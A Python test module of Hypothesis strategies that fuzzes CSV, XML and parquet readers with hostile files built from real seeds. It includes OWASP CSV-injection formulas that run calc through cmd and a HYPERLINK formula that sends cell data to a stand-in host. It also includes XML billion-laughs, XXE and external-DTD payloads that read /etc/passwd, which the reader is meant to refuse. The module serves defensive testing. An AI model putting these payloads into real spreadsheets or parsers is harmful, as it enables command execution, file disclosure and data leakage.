"""Hypothesis strategies for hostile files, by kind, each built from a target's real seeds.

A strategy draws a ``Case``: the files to read and, for some kinds, what must come out
(a formula string in a text field must load as that text; a file whose line endings were
mixed must read to the same data as the original).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from xml.sax.saxutils import escape

import pyarrow as pa
import pyarrow.parquet as pq
from hypothesis import strategies as st

from tests.reliability.seeds import Seed, Target

#: Formula strings a spreadsheet would run (OWASP's CSV injection examples and prefixes).
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "+44 116 000 0000",
    "-",
    "@",
    "=",
)
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

#: Values that have tripped parsers: int32 and digit-count limits, impossible dates,
#: non-ASCII digits, symbols, markup and control of direction.
INTERESTING = (
    "", " ", "0", "-0", "+1", "2147483647", "2147483648", "-2147483649", "9" * 40,
    "1" * 5000, "1e309", "NaN", "inf", "-inf", "1.5", "1,5", "٣", "²", "𝟙", "３１/０１/２０１６",
    "31/02/2016", "29/02/2016", "00/00/0000", "01/01/0000", "31/12/9999", "1/1/10000",
    "2016-02-30", "0000-01-01", "9999-12-31", "x" * 1000, "true", "maybe", "\u202e",
    "\ufeff", "c", "x", "z", "low", "-", "..", "NULL", "None", '"', "'", "2024 (prov)",
    "2014-16", "9999-99", "0000", "99999", "999999", "<b>", "&amp;", "[bold]x[/bold]",
    "Ω≈ç√", "\u00a0", "\u2028",
)  # fmt: skip

#: Text a file can safely hold (no control characters, no surrogates): formula bodies.
SAFE_TEXT = st.text(
    st.characters(blacklist_categories=("Cc", "Cs"), blacklist_characters="\ufffe\uffff"),
    min_size=1,
    max_size=30,
).filter(lambda s: bool(s.strip()))


@dataclass(frozen=True)
class Case:
    """Files to read; ``formula`` says which column must hold which strings afterwards;
    ``same_as`` is a seed the files must read to the same data as; ``refused_with`` is the
    rule of the blocking problem that must refuse them."""

    files: tuple[tuple[str, bytes], ...]
    formula: tuple[str, tuple[str, ...]] | None = None
    same_as: Seed | None = None
    refused_with: str | None = None


def seed_text(seed: Seed) -> str:
    """A seed's text (the survey fixture is Windows-1252, as Excel saves it)."""
    try:
        return seed.data.decode("utf-8-sig")
    except UnicodeDecodeError:
        return seed.data.decode("cp1252")


def _one(seed: Seed, data: bytes, **extra: object) -> Case:
    return Case(((seed.name, data),), **extra)  # type: ignore[arg-type]


def formula_strings() -> st.SearchStrategy[str]:
    """A known formula payload, or a prefix followed by any text."""
    return st.sampled_from(FORMULAS) | st.builds(
        lambda prefix, body: prefix + body, st.sampled_from(FORMULA_PREFIXES), SAFE_TEXT
    )


# --- kinds for every form ---------------------------------------------------------------


def random_bytes(target: Target) -> st.SearchStrategy[Case]:
    return st.builds(
        lambda seed, data: _one(seed, data), st.sampled_from(target.seeds), st.binary(max_size=2048)
    )


def truncated(target: Target) -> st.SearchStrategy[Case]:
    return st.sampled_from(target.seeds).flatmap(
        lambda seed: st.integers(0, len(seed.data)).map(lambda cut: _one(seed, seed.data[:cut]))
    )


#: Byte strings worth splicing into a file: quotes, separators, markup, marks, long numbers.
TOKENS = (
    b'"', b",", b"\n", b"\r", b"\r\n", b"\x00", b"\xef\xbb\xbf", b"\xff\xfe", b"<", b">",
    b"&", b"</", b"<!DOCTYPE x [<!ENTITY e \"e\">]>", b"&e;", b"]]>", b"<![CDATA[", b"9" * 30,
    b"\xc3", b"\x1a", b"\t", b";", b"=cmd|' /C calc'!A0",
)  # fmt: skip


@st.composite
def _mutated(draw: st.DrawFn, target: Target) -> Case:
    seed = draw(st.sampled_from(target.seeds))
    data = bytearray(seed.data)
    for _ in range(draw(st.integers(1, 8))):
        at = draw(st.integers(0, len(data)))
        op = draw(st.sampled_from(("insert", "delete", "flip", "repeat")))
        if op == "insert":
            data[at:at] = draw(st.sampled_from(TOKENS) | st.binary(min_size=1, max_size=8))
        elif op == "delete":
            del data[at : at + draw(st.integers(1, 64))]
        elif op == "flip" and at < len(data):
            data[at] = draw(st.integers(0, 255))
        elif op == "repeat":
            data[at:at] = data[at : at + draw(st.integers(1, 200))] * draw(st.integers(1, 4))
    return _one(seed, bytes(data))


def mutated(target: Target) -> st.SearchStrategy[Case]:
    return _mutated(target)


def nul_bytes(target: Target) -> st.SearchStrategy[Case]:
    @st.composite
    def build(draw: st.DrawFn) -> Case:
        seed = draw(st.sampled_from(target.seeds))
        data = bytearray(seed.data)
        for at in sorted(draw(st.lists(st.integers(0, len(data)), min_size=1, max_size=5))):
            data[at:at] = b"\x00"
        return _one(seed, bytes(data))

    return build()


# --- kinds for text files (CSV and XML) -------------------------------------------------

ENCODINGS = (
    "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "cp1252",
    "bom+latin-1", "bom16+utf-8",
)  # fmt: skip


def encode(text: str, encoding: str) -> bytes:
    """``text`` in ``encoding``; the last two are lies: a byte-order mark of another one."""
    if encoding == "bom+latin-1":
        return b"\xef\xbb\xbf" + text.encode("latin-1", "replace")
    if encoding == "bom16+utf-8":
        return b"\xff\xfe" + text.encode("utf-8")
    return text.encode(encoding, "replace")


def encodings(target: Target) -> st.SearchStrategy[Case]:
    @st.composite
    def build(draw: st.DrawFn) -> Case:
        seed = draw(st.sampled_from(target.seeds))
        text = seed_text(seed)
        if draw(st.booleans()):  # accented letters and symbols an export might hold
            at = draw(st.integers(0, len(text)))
            text = text[:at] + draw(st.sampled_from(("é", "£", "€", "’", "Ł", "ß"))) + text[at:]
        return _one(seed, encode(text, draw(st.sampled_from(ENCODINGS))))

    return build()


def line_endings(target: Target) -> st.SearchStrategy[Case]:
    """The seed with each line break written as \\n, \\r\\n or \\r at random."""

    @st.composite
    def build(draw: st.DrawFn) -> Case:
        seed = draw(st.sampled_from(target.seeds))
        lines = seed.data.replace(b"\r\n", b"\n").split(b"\n")
        ends = draw(
            st.lists(
                st.sampled_from((b"\n", b"\r\n", b"\r")),
                min_size=len(lines) - 1,
                max_size=len(lines) - 1,
            )
        )
        data = b"".join(line + end for line, end in zip(lines, ends, strict=False)) + lines[-1]
        return _one(seed, data, same_as=seed)

    return build()


def random_text(target: Target) -> st.SearchStrategy[Case]:
    """The seed's first line, then any text: reaches the parsers behind the header check."""
    alphabet = st.sampled_from(list(',"\n\r /-:.<>&;=0123456789aAxZé')) | st.characters()
    return st.builds(
        lambda seed, body: _one(
            seed, seed.data.split(b"\n", 1)[0] + b"\n" + body.encode("utf-8", "surrogatepass")
        ),
        st.sampled_from(target.seeds),
        st.text(alphabet, max_size=400),
    )


# --- kinds for CSV files ----------------------------------------------------------------


def _rows(seed: Seed) -> list[list[str]]:
    return list(csv.reader(io.StringIO(seed_text(seed), newline="")))


def _csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode("utf-8")


#: Where a published file keeps its area names (all become ``area_name``).
AREA_NAME_COLUMNS = ("la_name", "region_name", "country_name", "la_or_region")


def csv_formulas(target: Target) -> st.SearchStrategy[Case]:
    """Formula strings in one column of every data row; a text column must keep them."""

    @st.composite
    def build(draw: st.DrawFn) -> Case:
        seed = draw(st.sampled_from(target.seeds))
        rows = _rows(seed)
        header = rows[0]
        if target.reader == "published":
            columns = [i for i, h in enumerate(header) if h.strip() in AREA_NAME_COLUMNS]
        else:
            columns = [draw(st.integers(0, len(header) - 1))]
        values = draw(st.lists(formula_strings(), min_size=len(rows) - 1, max_size=len(rows) - 1))
        for row, value in zip(rows[1:], values, strict=True):
            for i in columns:
                row[i] = value
        column = "area_name" if target.reader == "published" else header[columns[0]].strip()
        return _one(seed, _csv(rows), formula=(column, tuple(values)))

    return build()


def csv_cells(target: Target) -> st.SearchStrategy[Case]:
    """Some cells replaced with values that have tripped parsers, or any text."""

    @st.composite
    def build(draw: st.DrawFn) -> Case:
        seed = draw(st.sampled_from(target.seeds))
        rows = _rows(seed)
        for _ in range(draw(st.integers(1, 6))):
            row = rows[draw(st.integers(1, len(rows) - 1))] if len(rows) > 1 else rows[0]
            if row:
                value = draw(st.sampled_from(INTERESTING) | SAFE_TEXT)
                row[draw(st.integers(0, len(row) - 1))] = value
        return _one(seed, _csv(rows))

    return build()


def csv_shapes(target: Target) -> st.SearchStrategy[Case]:
    """Rows of any width, repeated or blank header cells, header only, a long cell."""

    @st.composite
    def build(draw: st.DrawFn) -> Case:
        seed = draw(st.sampled_from(target.seeds))
        rows = _rows(seed)
        op = draw(st.sampled_from(("width", "dup-header", "blank-header", "header-only", "long")))
        if op == "width":
            row = rows[draw(st.integers(0, len(rows) - 1))]
            width = draw(st.integers(0, 3 * len(row) + 2))
            row[:] = (row + [draw(SAFE_TEXT) for _ in range(width)])[:width]
        elif op == "dup-header":
            rows[0].append(draw(st.sampled_from(rows[0])).upper())
        elif op == "blank-header":
            rows[0][draw(st.integers(0, len(rows[0]) - 1))] = draw(st.sampled_from(("", " ")))
        elif op == "header-only":
            rows = rows[:1]
        else:  # a cell larger than the csv module's default limit (131,072 characters)
            row = rows[draw(st.integers(0, len(rows) - 1))]
            row[draw(st.integers(0, len(row) - 1))] = "A" * draw(st.integers(100_000, 300_000))
        return _one(seed, _csv(rows))

    return build()


# --- kinds for XML files ----------------------------------------------------------------

#: Leaf elements of the SSDA903 XML held as text (not dates or numbers), by canonical name.
XML_TEXT_FIELDS = {
    "CHILDID": "CHILD", "SEX": "SEX", "ETHNIC": "ETHNIC", "UPN": "UPN", "RNE": "RNE",
    "LS": "LS", "CIN": "CIN", "PL": "PLACE", "PLACE_PROVIDER": "PLACE_PROVIDER", "REC": "REC",
    "REASON_PLACE_CHANGE": "REASON_PLACE_CHANGE", "HOME_POST": "HOME_POST",
    "PL_POST": "PL_POST", "URN": "URN", "REVIEW_CODE": "REVIEW_CODE", "PREV_PERM": "PREV_PERM",
}  # fmt: skip


def _xml_text(value: str) -> str:
    return escape(value).encode("ascii", "xmlcharrefreplace").decode("ascii")


def xml_formulas(target: Target) -> st.SearchStrategy[Case]:
    """A formula string in every element of one text field: it loads as that text
    (stripped, with line breaks normalised, as XML text is)."""

    @st.composite
    def build(draw: st.DrawFn) -> Case:
        seed = draw(st.sampled_from(target.seeds))
        text = seed_text(seed)
        tags = [t for t in XML_TEXT_FIELDS if f"<{t}>" in text]
        tag = draw(st.sampled_from(tags))
        value = draw(formula_strings())
        body = _xml_text(value)
        text = re.sub(f"<{tag}>[^<]*</{tag}>", lambda _: f"<{tag}>{body}</{tag}>", text)
        expected = value.replace("\r\n", "\n").replace("\r", "\n").strip()
        return _one(seed, text.encode("utf-8"), formula=(XML_TEXT_FIELDS[tag], (expected,)))

    return build()


#: Entity expansion, external entities and DTDs, each with the rule that must refuse it
#: (None: nothing in it is acted on, so it may be read: XInclude and stylesheets are inert).
XML_ATTACKS: tuple[tuple[str, str | None], ...] = (
    (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;'
        '&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;'
        '&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><EXPSSDA903><CHILD><HEADER>'
        "<CHILDID>&lol3;</CHILDID></HEADER></CHILD></EXPSSDA903>",
        "xml-unsafe",
    ),
    (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        "<EXPSSDA903><CHILD><HEADER><CHILDID>&xxe;</CHILDID></HEADER></CHILD></EXPSSDA903>",
        "xml-unsafe",
    ),
    ('<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd"><EXPSSDA903/>', "xml-unsafe"),
    (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'
        "<EXPSSDA903/>",
        "xml-unsafe",
    ),
    (
        '<?xml version="1.0"?><!DOCTYPE x PUBLIC "-//X//Y" "http://example.invalid/x.dtd">'
        "<EXPSSDA903/>",
        "xml-unsafe",
    ),
    (
        '<?xml version="1.0"?><!DOCTYPE EXPSSDA903 [<!ELEMENT EXPSSDA903 ANY>]><EXPSSDA903/>',
        "xml-unsafe",
    ),
    (
        '<?xml version="1.0"?><EXPSSDA903 xmlns:xi="http://www.w3.org/2001/XInclude">'
        '<CHILD><HEADER><CHILDID><xi:include href="file:///etc/passwd" parse="text"/>'
        "</CHILDID></HEADER></CHILD></EXPSSDA903>",
        None,
    ),
    (
        '<?xml version="1.0"?><?xml-stylesheet href="file:///etc/passwd"?><EXPSSDA903/>',
        None,
    ),
    ('<?xml version="1.0" encoding="utf-7"?><EXPSSDA903/>', "xml-syntax"),
    ('<?xml version="1.0" encoding="nonsense"?><EXPSSDA903/>', "xml-syntax"),
)


def xml_attacks(target: Target) -> st.SearchStrategy[Case]:
    return st.builds(
        lambda attack, name: Case(((name, attack[0].encode("utf-8")),), refused_with=attack[1]),
        st.sampled_from(XML_ATTACKS),
        st.sampled_from(("attack.xml", "attack.csv")),
    )


_TAGS = (
    "EXPSSDA903", "CHILD", "HEADER", "EPISODE", "AREVIEW", "AMISSING", "OC2", "PERMANENCE",
    "AD_PLACED", "CHILDID", "SEX", "DOB", "DECOM", "UASC", "DUC", "IN_TOUCH", "SDQ_SCORE",
    "MISSING", "X",
)  # fmt: skip


def _element() -> st.SearchStrategy[str]:
    leaf = st.builds(
        lambda tag, value: f"<{tag}>{_xml_text(value)}</{tag}>" if value else f"<{tag} />",
        st.sampled_from(_TAGS),
        st.sampled_from(INTERESTING) | SAFE_TEXT,
    )
    return st.recursive(
        leaf,
        lambda inner: st.builds(
            lambda tag, kids: f"<{tag}>{''.join(kids)}</{tag}>",
            st.sampled_from(_TAGS),
            st.lists(inner, max_size=5),
        ),
        max_leaves=40,
    )


def xml_trees(target: Target) -> st.SearchStrategy[Case]:
    """Well-formed EXPSSDA903 documents of any shape: elements in the wrong places,
    rows inside rows, fields holding elements, values of any kind."""
    return st.builds(
        lambda kids: Case((("tree.xml", f"<EXPSSDA903>{''.join(kids)}</EXPSSDA903>".encode()),)),
        st.lists(_element(), max_size=6),
    )


def xml_nesting(target: Target) -> st.SearchStrategy[Case]:
    """Elements nested thousands deep (a million deep runs in a subprocess)."""
    return st.builds(
        lambda depth, tag: Case(
            (
                (
                    "deep.xml",
                    (
                        f"<EXPSSDA903><CHILD>{f'<{tag}>' * depth}1{f'</{tag}>' * depth}"
                        "</CHILD></EXPSSDA903>"
                    ).encode(),
                ),
            )
        ),
        st.integers(1, 20_000),
        st.sampled_from(("HEADER", "EPISODE", "X", "CHILD")),
    )


# --- kinds for parquet ------------------------------------------------------------------


def parquet_variants(target: Target) -> st.SearchStrategy[Case]:
    """The LAIT parquet with a column dropped, emptied, retyped, or holding formulas."""

    @st.composite
    def build(draw: st.DrawFn) -> Case:
        seed = draw(st.sampled_from(target.seeds))
        table = pq.read_table(pa.BufferReader(seed.data))
        name = draw(st.sampled_from(table.column_names))
        op = draw(st.sampled_from(("drop", "nulls", "int", "float", "binary", "formula")))
        formula = None
        if op == "drop":
            table = table.drop_columns([name])
        else:
            n = table.num_rows
            if op == "nulls":
                column = pa.nulls(n)
            elif op == "int":
                column = pa.array(range(n), pa.int64())
            elif op == "float":
                column = pa.array([float(i) + 0.5 for i in range(n)])
            elif op == "binary":
                column = pa.array([b"\xff\x00"] * n)
            else:
                name = "LA and Regions"
                values = draw(st.lists(formula_strings(), min_size=n, max_size=n))
                column = pa.array(values)
                formula = ("area_name", tuple(values))
            table = table.set_column(table.column_names.index(name), name, column)
        out = pa.BufferOutputStream()
        pq.write_table(table, out)
        return _one(seed, out.getvalue().to_pybytes(), formula=formula)

    return build()


Kind = Callable[[Target], st.SearchStrategy[Case]]

#: The kinds of hostile file tried on each form.
KINDS: dict[str, dict[str, Kind]] = {
    "csv": {
        "random-bytes": random_bytes,
        "truncated": truncated,
        "mutated": mutated,
        "nul-bytes": nul_bytes,
        "encodings": encodings,
        "line-endings": line_endings,
        "random-text": random_text,
        "formulas": csv_formulas,
        "cells": csv_cells,
        "shapes": csv_shapes,
    },
    "xml": {
        "random-bytes": random_bytes,
        "truncated": truncated,
        "mutated": mutated,
        "nul-bytes": nul_bytes,
        "encodings": encodings,
        "line-endings": line_endings,
        "formulas": xml_formulas,
        "attacks": xml_attacks,
        "trees": xml_trees,
        "nesting": xml_nesting,
    },
    "parquet": {
        "random-bytes": random_bytes,
        "truncated": truncated,
        "mutated": mutated,
        "variants": parquet_variants,
    },
}
